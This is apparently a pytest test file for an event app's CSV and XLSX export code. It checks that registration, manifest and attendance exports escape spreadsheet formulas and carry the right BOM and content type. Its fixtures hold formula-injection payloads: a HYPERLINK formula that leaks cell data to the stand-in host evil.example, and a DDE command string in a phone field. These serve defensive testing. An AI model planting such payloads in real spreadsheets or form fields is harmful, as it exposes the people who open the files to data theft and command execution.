"""The shared CSV/XLSX writing (eventhub/exports.py): one content type, a BOM, and no formula runs in Excel.

A delegate who types "=HYPERLINK(...)" as their name must show up as that text in every export the
secretariat opens in Excel: the registration list, the site-visit manifest and the attendance lists.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from eventhub.exports import csv_bytes, escape_cell
from eventhub.extensions import db
from eventhub.signups.models import Booking, BookingStatus

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", ["=cmd", "+cmd", "-cmd", "@cmd", "\tcmd", "\rcmd"])
def test_every_formula_start_is_escaped(text):
    assert escape_cell(text) == "'" + text
    assert escape_cell("Wei") == "Wei" and escape_cell(-5) == -5 and escape_cell(None) is None
    data = csv_bytes(["Name"], [[text, 3]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1] == ["'" + text, "3"]


@pytest.fixture
def evil(make):
    event = make.event(slug="evil", title="Workshop")
    reg = make.registration(event, economy="PRC", given_name=EVIL, family_name="Chen", name_local="陈伟",
                            phone="=cmd|' /C calc'!A0")
    visit = make.session(event, kind="site_visit", title="Visit", bookable=True, capacity=5, start="14:00",
                         end="17:00")
    db.session.add(Booking(session_id=visit.id, registration_id=reg.id, economy_id=reg.economy_id,
                           status=BookingStatus.CONFIRMED))
    db.session.commit()
    return event, visit, make.staff(event, "organizer")


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once, not twice
    assert response.headers.get_all("Content-Type") == ["text/csv; charset=utf-8"]
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_registration_export_escapes_formulas(client, evil, login_as):
    event, _visit, organizer = evil
    login_as(organizer)
    rows = _csv(client.get(f"/events/{event.slug}/registrations/export.csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("Given name")] == "'" + EVIL and row[header.index("Name in local script")] == "陈伟"
    assert row[header.index("Phone")].startswith("'=")
    book = load_workbook(io.BytesIO(client.get(f"/events/{event.slug}/registrations/export.xlsx").data))
    values = list(book.active.values)
    assert values[1][values[0].index("Given name")] == "'" + EVIL


def test_attendance_session_list_escapes_formulas(client, evil, login_as):
    event, visit, organizer = evil
    login_as(organizer)
    rows = _csv(client.get(f"/events/{event.slug}/reports/sessions/{visit.id}.csv"))
    assert rows[2][:3] == ["'" + EVIL, "CHEN", "陈伟"]
    summary = _csv(client.get(f"/events/{event.slug}/reports/attendance.csv"))
    assert summary[0] == ["Summary"]
    xlsx = client.get(f"/events/{event.slug}/reports/attendance.xlsx")
    assert xlsx.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_manifest_escapes_formulas(client, evil, login_as):
    event, visit, organizer = evil
    login_as(organizer)
    response = client.get(f"/events/{event.slug}/sessions/{visit.id}/manifest.csv")
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    assert row[header.index("Given name")] == "'" + EVIL and row[header.index("Name (local)")] == "陈伟"
    assert row[header.index("Phone")].startswith("'=")
    sheet = load_workbook(io.BytesIO(client.get(f"/events/{event.slug}/sessions/{visit.id}/manifest.xlsx").data)
                          ).active
    values = list(sheet.values)
    assert values[3][3] == "'" + EVIL


def test_manifest_csv_sends_its_charset_once(client, evil, login_as):
    event, visit, organizer = evil
    login_as(organizer)
    _csv(client.get(f"/events/{event.slug}/sessions/{visit.id}/manifest.csv"))
